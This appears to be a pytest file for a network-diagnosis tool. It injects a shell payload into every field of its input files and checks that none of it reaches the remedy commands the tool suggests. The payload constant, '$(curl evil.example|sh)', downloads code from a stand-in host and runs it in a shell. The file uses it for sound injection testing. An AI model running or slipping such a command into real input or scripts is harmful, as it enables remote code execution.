"""A shell's command in every value that a document brings: none comes into a line for copying or a letter."""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from arcferry.diagnosis import Diagnosis, judge
from arcferry.errors import FileInputError
from arcferry.evidence.case import Document
from arcferry.evidence.reading import read_document

CASES = Path(__file__).parents[1] / "cases"
SHARED = Path(__file__).parents[3] / "shared" / "cases" / "hostile-2026-11"
PAYLOAD = "$(curl evil.example|sh)"
MARKS = ("evil.example", "$(curl")
PROSE = {"says", "error", "message", "purpose", "output", "agentErrorDetails", "error_description"}
"""Keys of free text: what a host says in its own words, which evidence may quote and no command holds."""
_MOST_CASES = 3


@dataclass(frozen=True)
class Place:
    """One key of one file of a case, wherever it stands in the file."""

    path: Path
    key: tuple[str, ...]

    def __str__(self) -> str:
        return f"{self.path.parent.name}-{self.path.name}-{'.'.join(self.key)}"


def _keys(value: object, key: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """The way to every text, with `*` for any element of a list."""
    if isinstance(value, dict):
        for name, item in value.items():
            yield from _keys(item, (*key, name))
    elif isinstance(value, list):
        for item in value:
            yield from _keys(item, (*key, "*"))
    elif isinstance(value, str):
        yield key


def _with(value: object, key: tuple[str, ...], make: str) -> object:
    """The document with the text at `key` changed, everywhere."""
    if not key:
        return make.format(value) if isinstance(value, str) else value
    head, rest = key[0], key[1:]
    if isinstance(value, list) and head == "*":
        return [_with(item, rest, make) for item in value]
    if isinstance(value, dict) and head in value:
        return {**value, head: _with(value[head], rest, make)}
    return value


def _json_files() -> Iterator[Path]:
    files = {path.read_bytes(): path for path in sorted(CASES.glob("*/*.json"))}
    return iter(files.values())


def places() -> list[Place]:
    seen: dict[tuple[object, ...], int] = {}
    found = []
    for path in _json_files():
        try:
            value = json.loads(path.read_bytes())
        except ValueError:
            continue
        for key in dict.fromkeys(_keys(value)):
            shape = (path.name.partition("_")[0], key)
            seen[shape] = seen.get(shape, 0) + 1
            if seen[shape] <= _MOST_CASES:
                found.append(Place(path, key))
    return found


def explained(path: Path, data: bytes) -> Diagnosis | str:
    """The whole case with this file changed, or what is said of a file that is refused."""
    documents: list[Document] = []
    try:
        for one in sorted(path.parent.iterdir()):
            if one.name != "expected.toml":
                documents += read_document(one.name, data if one == path else one.read_bytes())
    except FileInputError as error:
        return f"{error} {error.hint}"
    return judge(documents)


def holds(text: str) -> bool:
    return any(mark in text for mark in MARKS)


def assert_clean(diagnosis: Diagnosis | str, *, quoted: bool) -> None:
    if isinstance(diagnosis, str):
        assert not holds(diagnosis)
        return
    for finding in diagnosis.findings:
        for command in finding.remedy.commands:
            assert not holds(command.text), (finding.cause, command.text)
        if quoted:
            continue
        texts = [finding.title, finding.remedy.summary, *finding.remedy.steps, finding.remedy.request]
        texts += [f"{line.origin} {line.says}" for line in finding.evidence]
        texts += [f"{one.host} {one.address} {one.region} {one.community}" for one in finding.endpoints]
        for text in texts:
            assert not holds(text), (finding.cause, text)


@pytest.mark.parametrize("make", ["{}" + f" {PAYLOAD}", PAYLOAD, "{}" + f";{PAYLOAD}"])
@pytest.mark.parametrize("place", places(), ids=str)
def test_a_command_in_a_value_of_json_comes_nowhere(place: Place, make: str) -> None:
    value = _with(json.loads(place.path.read_bytes()), place.key, make)
    diagnosis = explained(place.path, json.dumps(value).encode())
    assert_clean(diagnosis, quoted=bool(PROSE & set(place.key)))


def _texts() -> list[Path]:
    files = {path.read_bytes(): path for path in sorted(CASES.glob("*/*.txt"))}
    files |= {path.read_bytes(): path for path in sorted(CASES.glob("*/*.log"))}
    return list(files.values())


@pytest.mark.parametrize("make", ["{} " + PAYLOAD, PAYLOAD + " {}"])
@pytest.mark.parametrize("path", _texts(), ids=lambda path: f"{path.parent.name}-{path.name}")
def test_a_command_on_every_line_comes_into_no_command(path: Path, make: str) -> None:
    lines = path.read_text(encoding="utf-8", errors="replace").splitlines()
    changed = "\n".join(make.format(line) if line.strip() else line for line in lines)
    assert_clean(explained(path, changed.encode()), quoted=True)


@pytest.mark.shared
def test_a_resolver_whose_name_is_none_is_said_to_be_none() -> None:
    path = SHARED / "shell-in-path.json"
    if not path.exists():
        pytest.skip("the shared cases are not beside the checkout")
    diagnosis = judge(read_document(path.name, path.read_bytes()))
    (finding,) = diagnosis.findings
    assert_clean(diagnosis, quoted=False)
    assert finding.title == "a resolver whose name is none has no address for gbl.his.arc.azure.com"
    assert [command.text for command in finding.remedy.commands] == [
        "Resolve-DnsName gbl.his.arc.azure.com -Server RESOLVER",
        "dig gbl.his.arc.azure.com @RESOLVER",
    ]
    assert "Asked: a resolver whose name is none." in finding.remedy.request


def test_typed_values_stay_as_they_are() -> None:
    check = {
        "schema": 1,
        "kind": "check",
        "taken": "2026-11-23T08:00:00Z",
        "resolver": "[fd00::53]:5353",
        "endpoints": [
            {
                "host": "gbl.his.arc.azure.com",
                "reachable": False,
                "dns": {"chain": [], "addresses": []},
                "failure": {"stage": "dns", "kind": "nxdomain", "says": "no such name"},
            }
        ],
    }
    (finding,) = judge(read_document("check.json", json.dumps(check).encode())).findings
    assert finding.title == "[fd00::53]:5353 has no address for gbl.his.arc.azure.com"
    assert [command.text for command in finding.remedy.commands] == [
        "Resolve-DnsName gbl.his.arc.azure.com -Server fd00::53",
        "dig gbl.his.arc.azure.com @fd00::53 -p 5353",
    ]
